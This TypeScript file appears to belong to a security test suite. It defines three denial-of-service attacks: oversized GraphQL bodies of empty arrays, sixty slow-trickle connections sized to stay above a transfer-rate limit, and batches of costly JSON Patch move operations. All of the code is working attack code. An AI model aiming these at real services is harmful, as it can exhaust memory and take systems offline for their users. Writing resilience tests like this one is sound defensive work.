import { once } from 'node:events';

import { ARRAY_LENGTH, repeat, SMALL_HEAP } from './attack.ts';
import type { Attack } from './attack.ts';
import { headOf, held, open, readResponse, send } from './connection.ts';

const BODY_BYTES = 16 * 1_024 * 1_024;
const LARGE_BODIES = 3;
const TRICKLING = 60;
const SENT_BYTES = 15 * 1_024 * 1_024;
const TRICKLE_BYTES = 1_331; // 1.3 KiB, above connections.transferRate

/** The start of a valid batch, whose document contains a long text of spaces. */
const BATCH_START = '{"operations":[{"op":"create","collection":"items","data":{"text":"';
const BLOCK = Buffer.alloc(64 * 1_024, 0x20);

const PATCHES = 10;
const MOVES = 999;

/** Attacks that take the memory and the event loop of a process. */
export const memory: Attack[] = [
  {
    id: '2a',
    title: '16 MB of empty arrays to /graphql, three at a time; heap of 512 MB',
    env: SMALL_HEAP,
    run: (target, signal) => {
      const body = emptyArrays();
      return repeat(LARGE_BODIES, signal, () => send(target, { path: '/graphql', body, signal }));
    },
  },
  {
    id: '2b',
    title: '60 connections that send 15 MB of a batch and then 1.3 KiB a second; heap of 512 MB',
    env: SMALL_HEAP,
    run: (target, signal) =>
      repeat(TRICKLING, signal, async () => {
        const socket = await open(target);
        const head = { 'content-type': 'application/json', 'content-length': BODY_BYTES - 1_024 };
        readResponse(socket).write(headOf(target, 'POST /api/v1/batch', head) + BATCH_START);
        const closed = held(socket, signal);
        for (let sent = 0; sent < SENT_BYTES && !socket.destroyed; sent += BLOCK.length)
          if (!socket.write(BLOCK)) await Promise.race([once(socket, 'drain'), closed]);
        const timer = setInterval(() => socket.write(BLOCK.subarray(0, TRICKLE_BYTES)), 1_000);
        await closed;
        clearInterval(timer);
      }),
  },
  {
    id: '3',
    title: 'batches of ten JSON Patches with 999 moves each in an array of 250,000 elements',
    env: SMALL_HEAP,
    run: (target, signal) => {
      const move = { op: 'move', from: '/data/a/0', path: `/data/a/${ARRAY_LENGTH - 1}` };
      const patch = {
        op: 'jsonPatch',
        collection: 'arrays',
        id: target.arrayId,
        operations: Array.from({ length: MOVES }, () => move),
      };
      const body = JSON.stringify({ operations: Array.from({ length: PATCHES }, () => patch) });
      return repeat(1, signal, () => send(target, { path: '/api/v1/batch', body, signal }));
    },
  },
];

/** Returns the body of a GraphQL request whose variables contain an array of more than five million empty arrays. */
function emptyArrays(): string {
  const start = '{"variables":{"a":[[]';
  const end = ']}}';
  return `${start}${',[]'.repeat(Math.floor((BODY_BYTES - start.length - end.length) / 3))}${end}`;
}
